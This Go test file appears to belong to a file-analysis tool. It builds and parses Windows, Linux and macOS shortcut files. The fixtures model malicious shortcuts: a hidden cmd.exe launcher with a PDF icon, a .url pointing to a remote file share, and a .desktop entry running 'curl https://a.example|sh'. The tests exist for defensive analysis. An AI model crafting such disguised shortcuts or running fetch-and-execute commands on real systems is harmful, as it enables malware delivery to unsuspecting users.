package shortcut

import (
	"bytes"
	"encoding/binary"
	"errors"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/sekisho/sekisho"
)

// linkOf writes a shell link: an item list of a folder and a file, the strings, an environment block, and what follows.
func linkOf(s sekisho.Shortcut, item, tail string) []byte {
	var b bytes.Buffer
	flags := uint32(hasItems | isUnicode | hasExpanded)
	fields := []struct {
		flag uint32
		text string
	}{{hasName, s.Description}, {hasFolder, s.Folder}, {hasArguments, s.Arguments}, {hasIcon, s.Icon}}
	for _, f := range fields {
		if f.text != "" {
			flags |= f.flag
		}
	}
	head := make([]byte, headerSize)
	head[0] = headerSize
	copy(head[4:], "\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46")
	binary.LittleEndian.PutUint32(head[20:], flags)
	head[60] = map[string]byte{"normal": 1, "maximized": 3, "minimized": 7}[s.Show]
	b.Write(head)
	items := "\x19\x00/C:\\" + strings.Repeat("\x00", 19)
	items += string(rune(len(item)+15)) + "\x00\x32" + strings.Repeat("\x00", 11) + item + "\x00\x00\x00"
	b.Write(binary.LittleEndian.AppendUint16(nil, uint16(len(items))))
	b.WriteString(items)
	for _, f := range fields {
		if f.text != "" {
			b.Write(binary.LittleEndian.AppendUint16(nil, uint16(len(utf16.Encode([]rune(f.text))))))
			b.Write(utf16Of(f.text))
		}
	}
	if s.Target != "" {
		block := make([]byte, 788)
		binary.LittleEndian.PutUint32(block, 788)
		binary.LittleEndian.PutUint32(block[4:], 0xA0000001)
		copy(block[268:], utf16Of(s.Target))
		b.Write(block)
	}
	b.WriteString("\x00\x00\x00\x00" + tail)
	return b.Bytes()
}

func utf16Of(s string) []byte {
	var out []byte
	for _, u := range utf16.Encode([]rune(s)) {
		out = binary.LittleEndian.AppendUint16(out, u)
	}
	return out
}

// plistOf writes a binary property list with one dictionary of one key.
func plistOf(url string) string {
	objects := "\xD1\x01\x02" + "\x53URL" + "\x5F\x10" + string(rune(len(url))) + url
	table := "\x08\x0B\x0F"
	trailer := make([]byte, 32)
	trailer[6], trailer[7], trailer[15] = 1, 1, 3
	binary.BigEndian.PutUint64(trailer[24:], uint64(8+len(objects)))
	return "bplist00" + objects + table + string(trailer)
}

func open(t testing.TB, media string, data []byte) (sekisho.Shortcut, []string, error) {
	t.Helper()
	form := &sekisho.File{Type: media}
	a := &sekisho.Artifact{ID: "0", Kind: sekisho.KindFile, Form: form, Blob: bytes.NewReader(data), Size: int64(len(data))}
	err := Opener.Run(t.Context(), a, sekisho.NewBudget(sekisho.Limits{}))
	var links []string
	for _, part := range a.Parts {
		links = append(links, part.Name)
	}
	return form.Shortcut, links, err
}

func TestOpen(t *testing.T) {
	command := sekisho.Shortcut{Format: "lnk", Target: `%windir%\System32\cmd.exe`, Others: []string{`C:\plan.pdf`}, Arguments: `/c start "https://a.example/x?y=1" 予定`,
		Folder: `C:\`, Icon: `C:\a.ico`, Show: "minimized", Overlay: 5}
	for _, tt := range []struct {
		name, media string
		data        []byte
		want        sekisho.Shortcut
		links       []string
	}{
		{"link", "application/x-ms-shortcut", linkOf(command, "plan.pdf", "extra"), command, []string{"https://a.example/x?y=1"}},
		{"link by items", "application/x-ms-shortcut", linkOf(sekisho.Shortcut{Show: "normal"}, "a.exe", ""),
			sekisho.Shortcut{Format: "lnk", Target: `C:\a.exe`, Show: "normal"}, nil},
		{"internet", "application/x-mswinurl", []byte("[InternetShortcut]\r\nURL=file://192.0.2.7/a\r\nIconFile=\\\\192.0.2.7\\b.ico\r\n[Other]\r\nURL=x"),
			sekisho.Shortcut{Format: "url", Target: "file://192.0.2.7/a", Icon: `\\192.0.2.7\b.ico`, Show: "normal"}, []string{"file://192.0.2.7/a"}},
		{"internet in UTF-16", "application/x-mswinurl", append([]byte("\xFF\xFE"), utf16Of("[InternetShortcut]\nURL=https://a.example")...),
			sekisho.Shortcut{Format: "url", Target: "https://a.example", Show: "normal"}, []string{"https://a.example"}},
		{"desktop", "text/x-desktop", []byte("[Desktop Entry]\nType=Application\nExec=env A=1 bash -c \"curl https://a.example|sh\"\nIcon=application-pdf\nTerminal=true\n"),
			sekisho.Shortcut{Format: "desktop", Target: "bash", Arguments: `-c "curl https://a.example|sh"`, Icon: "application-pdf", Show: "terminal"}, []string{"https://a.example"}},
		{"location", "application/x-webloc", []byte(`<?xml version="1.0"?><plist><dict><key>URL</key><string>https://a.example/?a&amp;b</string></dict></plist>`),
			sekisho.Shortcut{Format: "webloc", Target: "https://a.example/?a&b", Show: "normal"}, []string{"https://a.example/?a&b"}},
		{"binary location", "application/x-webloc", []byte(plistOf("file:///System/Applications/Calculator.app")),
			sekisho.Shortcut{Format: "webloc", Target: "file:///System/Applications/Calculator.app", Show: "normal"}, []string{"file:///System/Applications/Calculator.app"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got, links, err := open(t, tt.media, tt.data)
			if err != nil || !reflect.DeepEqual(got, tt.want) || !slices.Equal(links, tt.links) {
				t.Errorf("got %+v with %q, want %+v with %q (error %v)", got, links, tt.want, tt.links, err)
			}
		})
	}
}

func TestCutShort(t *testing.T) {
	whole := linkOf(sekisho.Shortcut{Target: "cmd.exe", Arguments: "/c", Show: "normal"}, "a", "")
	for _, n := range []int{0, 10, headerSize + 1, headerSize + 20} {
		if _, _, err := open(t, "application/x-ms-shortcut", whole[:n]); !errors.Is(err, sekisho.ErrMalformed) {
			t.Errorf("%d bytes: error %v, want malformed", n, err)
		}
	}
}

func FuzzOpenNeverExceedsBudget(f *testing.F) {
	f.Add(0, linkOf(sekisho.Shortcut{Target: "cmd.exe", Arguments: "/c", Show: "normal"}, "a", "x"))
	f.Add(1, []byte("[InternetShortcut]\nURL=https://a.example"))
	f.Add(2, []byte(plistOf("https://a.example")))
	f.Add(3, []byte("[Desktop Entry]\nExec=sh -c true"))
	f.Fuzz(func(t *testing.T, kind int, data []byte) {
		media := Opener.Types[uint(kind)%uint(len(Opener.Types))]
		a := &sekisho.Artifact{ID: "0", Kind: sekisho.KindFile, Form: &sekisho.File{Type: media}, Blob: bytes.NewReader(data), Size: int64(len(data))}
		b := sekisho.NewBudget(sekisho.Limits{Parts: 20})
		if err := Opener.Run(t.Context(), a, b); len(a.Parts) > 20 {
			t.Errorf("%d parts (error %v)", len(a.Parts), err)
		}
	})
}

func BenchmarkLink(b *testing.B) {
	data := linkOf(sekisho.Shortcut{Target: "cmd.exe", Arguments: strings.Repeat("a ", 400), Show: "normal"}, "a", "")
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := readLink(data); err != nil {
			b.Fatal(err)
		}
	}
}
